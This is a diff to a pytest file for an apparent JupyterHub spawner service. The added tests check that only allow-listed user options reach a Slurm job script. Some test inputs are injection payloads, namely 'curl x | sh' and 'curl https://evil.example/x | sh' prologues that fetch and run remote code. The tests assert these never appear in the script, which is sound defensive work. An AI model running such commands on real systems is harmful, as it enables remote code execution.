@@ -12,6 +12,7 @@ from pathlib import Path
 import pytest
 import requests
 
+from outposts import services
 from outposts.runner import (
     ServerSpec,
     SpawnerRunner,
@@ -20,9 +21,10 @@ from outposts.runner import (
     rewrite_service_url,
     server_certs_dir,
 )
+from outposts.services import StartRequest
 from portal.crypto import encrypt_text
 from tests.e2e.support import FakeHub, pid_alive, serve_config, wait_for
-from tests.factories import FlavorFactory, OutpostFactory, ServerFactory
+from tests.factories import FlavorFactory, HubFactory, OutpostFactory, ServerFactory
 
 
 @pytest.fixture
@@ -48,6 +50,7 @@ def make_server(tmp_path, *, user="olga", name="", outpost_config=None, **kwargs
     outpost = OutpostFactory(
         spawner_config=outpost_config or serve_config(tmp_path / "home"),
         allowed_overrides=kwargs.pop("allowed_overrides", []),
+        allowed_user_options=kwargs.pop("allowed_user_options", []),
     )
     return ServerFactory(
         outpost=outpost,
@@ -112,13 +115,65 @@ def test_traits_are_layered_outpost_then_flavor_then_allow_listed_overrides(db, 
     assert runner.spawner.mem_limit == 2 * 1024**3  # mem_limit was not allow-listed
 
 
-def test_user_options_reach_the_spawner(db, tmp_path):
-    # given
-    server = make_server(tmp_path, user_options={"image": "lab:1", "project": "p1"})
+def test_only_allow_listed_user_options_reach_the_spawner(db, tmp_path):
+    # given options stored before the admin narrowed the allow-list to "image"
+    server = make_server(
+        tmp_path,
+        allowed_user_options=["image"],
+        user_options={"image": "lab:1", "project": "p1", "prologue": "curl x | sh"},
+    )
     # when
     runner = SpawnerRunner.for_server(server)
     # then
-    assert runner.spawner.user_options == {"image": "lab:1", "project": "p1"}
+    assert runner.spawner.user_options == {"image": "lab:1"}
+
+
+def batch_script(runner: SpawnerRunner) -> str:
+    """The job script batchspawner would pipe to sbatch, its variables built exactly as
+    BatchSpawnerBase.submit_batch_script builds them (without running sbatch)."""
+    spawner = runner.spawner
+    subvars = spawner.get_req_subvars()
+    subvars["cmd"] = spawner.cmd_formatted_for_batch()
+    subvars.update(spawner.user_options)
+    return asyncio.run(spawner._get_batch_script(**subvars))
+
+
+def test_user_options_cannot_override_a_slurm_flavor_or_add_job_script_lines(db):
+    # given a Slurm Outpost whose flavor sets memory and partition, and a Hub whose request
+    # tries to set them itself and to inject a prologue ("nobody": an account on any host,
+    # which SlurmSpawner needs for the job's home folder)
+    outpost = OutpostFactory(
+        spawner_class="batchspawner.SlurmSpawner", allowed_user_options=["image"]
+    )
+    FlavorFactory(
+        outpost=outpost, name="small", resources={"req_memory": "4G", "req_partition": "batch"}
+    )
+    hub = HubFactory(outposts=[outpost])
+    request = StartRequest(
+        name="",
+        env={"JUPYTERHUB_USER": "nobody", "JUPYTERHUB_USER_ID": "1"},
+        flavor="small",
+        user_options={
+            "flavor": "small",
+            "project": "p1",
+            "memory": "900G",
+            "partition": "bigmem",
+            "runtime": "99-00:00:00",
+            "prologue": "curl https://evil.example/x | sh",
+            "image": "lab:1",
+        },
+    )
+    server, _ = services.server_start(hub=hub, outpost=outpost, request=request)
+    # when the worker builds the real SlurmSpawner for it
+    runner = SpawnerRunner.for_server(server)
+    script = batch_script(runner)
+    # then the job script holds the flavor's limits and nothing the Hub injected
+    assert "#SBATCH --mem=4G\n" in script
+    assert "#SBATCH --partition=batch\n" in script
+    assert "--time" not in script
+    for injected in ("900G", "bigmem", "evil.example"):
+        assert injected not in script
+    assert runner.spawner.user_options == {"image": "lab:1"}
 
 
 def test_a_rebuilt_runner_polls_the_real_exit_status(db, tmp_path, started):
